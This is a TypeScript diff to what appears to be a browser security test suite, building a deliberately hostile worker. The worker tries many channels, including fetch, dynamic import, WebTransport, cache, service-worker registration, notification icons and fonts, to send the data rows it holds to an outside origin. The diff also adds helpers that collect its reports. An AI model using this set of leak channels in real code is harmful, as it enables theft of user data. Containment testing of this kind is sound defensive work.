@@ -1,3 +1,5 @@
+import type { Tab } from './tab.js';
+
 /** What the hostile worker had, and what became of each attempt to send it. */
 export interface Report {
   rows: string;
@@ -5,21 +7,17 @@ export interface Report {
 }
 
 /**
- * A worker that tries everything it can to send its rows to another origin, and then reports what it tried,
- * which shows that it ran and had the rows.
- * @param report address on its own server, which the site's policy allows; without it the worker is a classic
- *   script, as in the saved copy, and posts the report to the page: first without attempts, then with all
+ * A worker that tries everything it can to send its rows to its own server and to another one. It posts its report to the
+ * page: first without attempts, which shows that it ran and had the rows, then with all. It is alone in its file, as
+ * if all of the package's code in there were hostile.
+ * @param own address below which its own server records requests
  */
-export function hostileWorker(elsewhere: string, report?: string): string {
-  const isModule = report !== undefined;
-  const send = isModule
-    ? `fetch(${JSON.stringify(report)}, { method: 'POST', body: JSON.stringify(outcome) })`
-    : 'postMessage(outcome)';
+export function hostileWorker(elsewhere: string, own: string): string {
   return `
-    const elsewhere = ${JSON.stringify(elsewhere)};
-    const here = ${isModule ? 'import.meta.url' : 'location.href'};
+    const targets = ${JSON.stringify([elsewhere, own])};
+    const here = location.href;
     const code = (script) => URL.createObjectURL(new Blob([script], { type: 'text/javascript' }));
-    const sent = (way, rows) => elsewhere + way + '?rows=' + encodeURIComponent(rows);
+    const sent = (to, way, rows) => to + way + '?rows=' + encodeURIComponent(rows);
     const answered = (target, good) => new Promise((resolve, reject) => {
       target.addEventListener(good, () => resolve('went out'));
       target.addEventListener('error', () => reject(new Error('refused')));
@@ -60,6 +58,8 @@ export function hostileWorker(elsewhere: string, report?: string): string {
       import: (to) => import(to),
       webtransport: (to) => new WebTransport(to.replace('http:', 'https:')).ready,
       cache: async (to) => (await caches.open('x')).add(new Request(to, { mode: 'no-cors' })),
+      'service-worker': (to) => navigator.serviceWorker.register(to),
+      notification: (to) => new Notification('x', { icon: to }),
       font: (to) => new FontFace('x', 'url(' + to + ')').load(),
       'worker-from-blob': (to) => inOther(code(
         'fetch(' + JSON.stringify(to) + ', { mode: "no-cors" }).finally(() => postMessage(0))')),
@@ -76,21 +76,79 @@ export function hostileWorker(elsewhere: string, report?: string): string {
       fetch(toSend, { mode: 'no-cors' }).finally(() => self.postMessage?.(0));
     }
     addEventListener('message', async ({ data }) => {
+      // As the package's worker does: rows come after that.
+      if (data.call === 'core') postMessage({ id: data.id, value: null });
       if (data.call !== 'run') return;
       const rows = await firstRows(data.args[0].source);
       const late = new Promise((resolve) => setTimeout(resolve, 2000, 'no answer'));
       const tried = {};
       const outcome = { rows, tried };
-      ${isModule ? '' : send};
-      await Promise.all(Object.entries(ways).map(async ([way, act]) => {
+      postMessage(outcome);
+      const attempts = Object.entries(ways).flatMap((way) => targets.map((to) => [...way, to]));
+      await Promise.all(attempts.map(async ([way, act, to]) => {
+        const name = (to === targets[0] ? '' : 'own-') + way;
         try {
-          const outcome = await Promise.race([act(sent(way, rows), rows), late]);
-          tried[way] = outcome === 'no answer' ? outcome : 'went out';
+          const outcome = await Promise.race([act(sent(to, way, rows), rows), late]);
+          tried[name] = outcome === 'no answer' ? outcome : 'went out';
         } catch (error) {
-          tried[way] = String(error).slice(0, 80);
+          tried[name] = String(error).slice(0, 80);
         }
       }));
-      await ${send};
+      postMessage(outcome);
     });
   `;
+}
+
+/**
+ * Collects the reports of hostile workers that the page starts from now on, also in frames. Reports are messages, which
+ * every worker of a page gets a listener for.
+ */
+export async function collectReports(tab: Tab): Promise<void> {
+  await tab.run(() => {
+    const reports: unknown[] = [];
+    Object.assign(globalThis, { reports });
+    const hear = (scope: typeof globalThis): void => {
+      const Original = scope.Worker;
+      class Heard extends Original {
+        constructor(script: string | URL, options?: WorkerOptions) {
+          super(script, options);
+          this.addEventListener('message', ({ data }: MessageEvent<object>) => {
+            if ('tried' in data) reports.push(data);
+          });
+        }
+      }
+      scope.Worker = Heard;
+    };
+    hear(globalThis);
+    new MutationObserver((records) => {
+      for (const { addedNodes } of records) {
+        for (const node of addedNodes) {
+          if (node instanceof HTMLIFrameElement && node.contentWindow !== null) {
+            const inside = node.contentWindow as unknown as typeof globalThis;
+            hear(inside);
+            // Firefox replaces the document of a new frame once.
+            node.addEventListener('load', () => {
+              if (inside.Worker.name !== 'Heard') hear(inside);
+            });
+          }
+        }
+      }
+    }).observe(document, { childList: true, subtree: true });
+  }, null);
+}
+
+/** The last report of a hostile worker that has got rows. */
+export async function reportOf(tab: Tab): Promise<Report> {
+  return tab.run(async () => {
+    const { reports, looking } = globalThis as unknown as {
+      reports: Report[];
+      looking: { found<T>(look: () => T | undefined, what: string): Promise<T> };
+    };
+    const first = await looking.found(() => reports[0], 'the report of the hostile worker');
+    // The worker waits 2 s for each attempt, all at once; one that stopped for good has made all of them.
+    for (let left = 160; left > 0 && reports.length < 2; left--) {
+      await new Promise((resolve) => setTimeout(resolve, 50));
+    }
+    return reports[1] ?? first;
+  }, null);
 }
